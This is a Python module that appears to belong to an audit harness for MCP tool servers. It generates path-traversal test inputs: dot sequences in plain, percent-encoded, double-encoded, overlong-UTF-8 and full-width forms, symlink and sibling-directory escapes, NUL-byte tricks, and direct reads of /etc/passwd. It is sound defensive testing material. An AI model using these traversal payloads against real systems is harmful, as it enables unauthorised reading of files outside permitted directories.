"""Ways to spell a path that leads out of a directory, each with what its file would tell.

One dimension each: the same file by its plain path, by dots, by dots in disguise, by links, by a lookalike directory.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import PurePosixPath
from typing import Final, TypeAlias
from urllib.parse import quote

from mcp_audit_harness.model import Planted

DIRECT, DOTS, ENCODED, LINK, SIBLING, NULL, ODD = "direct", "dots", "encoded", "link", "sibling", "null", "odd"
HOST_FILE: Final = "/etc/passwd"
"""A file that every POSIX host has, that holds no secret, and that is told by its first line."""
HOST_LINE: Final = "root:x:0:0:"
_DEPTH: Final = 12
_LONG: Final = 5_000
_UNCODED: Final = "/:$.-_~" + chr(92)

Spell: TypeAlias = Callable[[str], str]
"""Writes an absolute path in the form that the target reads."""

_ENCODED_UPS: Final = (
    ("percent-encoded dots", "%2e%2e/"),
    ("percent-encoded dots and slashes", "%2e%2e%2f"),
    ("percent-encoded slashes", "..%2f"),
    ("dots encoded twice", "%252e%252e%252f"),
    ("overlong UTF-8", "%c0%ae%c0%ae/"),
    ("percent-encoded full-width dots", "%ef%bc%8e%ef%bc%8e/"),
    ("full-width dots", "\uff0e\uff0e/"),
    ("one dot leaders", "\u2024\u2024/"),
    ("%u-encoded full-width dots", "%uff0e%uff0e/"),
    ("percent-encoded backslashes", "..%5c"),
)
_PLAIN_UPS: Final = (
    ("dots", "../"),
    ("dots after a dot", "./../"),
    ("doubled dots", "....//"),
    ("dots with a semicolon", "..;/"),
    ("backslashes", "..\\"),
    ("dots with two slashes", "..//"),
)


@dataclass(frozen=True, slots=True)
class Attack:
    """One value to hand over, and the text that proves that it opened what it must not."""

    kind: str
    how: str
    """In words."""
    value: str
    proof: str


def file_attacks(planted: Planted, spell: Spell) -> Iterator[Attack]:
    """Yield the attacks on an argument that takes files; `spell` writes absolute paths as the argument wants them."""
    home, beyond, inside = planted.directory, planted.beyond, planted.inside
    yield Attack(DIRECT, "its own path", spell(beyond.path), beyond.text)
    yield Attack(DIRECT, "its file: URI", beyond.uri, beyond.text)
    yield from _ways_up(home, beyond.path, beyond.text, spell, times=_DEPTH)
    if planted.beside is not None:
        beside = planted.beside
        yield from _ways_up(home, f"/{beside.name}", beside.text, spell, times=1)
        yield Attack(DOTS, "dots after a missing directory", spell(f"{home}/none/../../{beside.name}"), beside.text)
    yield Attack(LINK, "a symbolic link", spell(planted.link.path), beyond.text)
    yield Attack(LINK, "a linked directory", spell(planted.through.path), beyond.text)
    if planted.sibling is not None:
        yield Attack(SIBLING, "a directory whose name begins alike", spell(planted.sibling.path), planted.sibling.text)
    for how, end in (("NUL", "\0.png"), ("an encoded NUL", "%00.png")):
        yield Attack(NULL, how, spell(inside.path) + end, inside.text)
    yield Attack(NULL, "NUL after its own path", f"{spell(beyond.path)}\0{inside.name}", beyond.text)
    yield Attack(ODD, "the name of a data stream", f"{spell(inside.path)}::$DATA", inside.text)
    yield Attack(ODD, "capitals", spell(beyond.path.upper()), beyond.text)
    yield Attack(ODD, "a very long way", spell(f"{home}{'/.' * _LONG}/../{PurePosixPath(home).name}-none"), beyond.text)
    yield Attack(ODD, "a reserved name", spell(f"{home}/CON"), beyond.text)


def directory_attacks(planted: Planted, spell: Spell) -> Iterator[Attack]:
    """Yield the attacks on an argument that takes directories: the proof is a name in what lies there."""
    home, beyond = planted.directory, planted.beyond
    elsewhere = str(PurePosixPath(beyond.path).parent)
    yield Attack(DIRECT, "its own path", spell(elsewhere), beyond.name)
    yield from _ways_up(home, elsewhere, beyond.name, spell, times=_DEPTH)
    if planted.beside is not None:
        yield Attack(DOTS, "dots to the parent", spell(f"{home}/.."), planted.beside.name)
        yield Attack(ENCODED, "percent-encoded dots to the parent", spell(home) + "/%2e%2e", planted.beside.name)
    yield Attack(LINK, "a linked directory", spell(str(PurePosixPath(planted.through.path).parent)), beyond.name)
    if planted.sibling is not None:
        sibling = PurePosixPath(planted.sibling.path)
        yield Attack(SIBLING, "a directory whose name begins alike", spell(str(sibling.parent)), sibling.name)


def host_attacks() -> Iterator[Attack]:
    """Yield attacks by a file of the host that is told by its structure, where nothing is planted."""
    yield Attack(DIRECT, "its own path", HOST_FILE, HOST_LINE)
    yield Attack(DIRECT, "its file: URI", f"file://{HOST_FILE}", HOST_LINE)
    for how, up in _PLAIN_UPS[:2]:
        yield Attack(DOTS, how, up * _DEPTH + HOST_FILE[1:], HOST_LINE)
    for how, up in _ENCODED_UPS[:3]:
        yield Attack(ENCODED, how, up * _DEPTH + HOST_FILE[1:], HOST_LINE)


def missing_beside(value: str) -> str:
    """Return the spelling of something beside what `value` spells, as long, that does not exist."""
    folder, slash, name = value.rpartition("/")
    return f"{folder}{slash}{'mcp-audit-none-' * (1 + len(name) // 15)}"[: len(value)].rstrip("-")


def _ways_up(home: str, path: str, proof: str, spell: Spell, *, times: int) -> Iterator[Attack]:
    """Yield ways from the directory up, and down to a path; the dots go in after spelling, so that nothing hides them.

    As deep as it takes: more steps up than there are end at the top.
    """
    base, rest = spell(home), path.lstrip("/")
    for kind, ups in ((DOTS, _PLAIN_UPS), (ENCODED, _ENCODED_UPS)):
        for how, up in ups:
            yield Attack(kind, how, f"{base}/{up * times}{rest}" if base else up * times + rest, proof)


def absolute(path: str) -> str:
    """Write the path as it is."""
    return path


def as_uri(path: str) -> str:
    """Write the path as a file: URI, with dots left as they are."""
    return "file://" + quote(path, safe=_UNCODED)


def relative_to(home: str) -> Spell:
    """Return how paths are written below a directory: outside of it they stay absolute."""

    def spelt(path: str) -> str:
        return "" if path == home else path.removeprefix(f"{home}/")

    return spelt
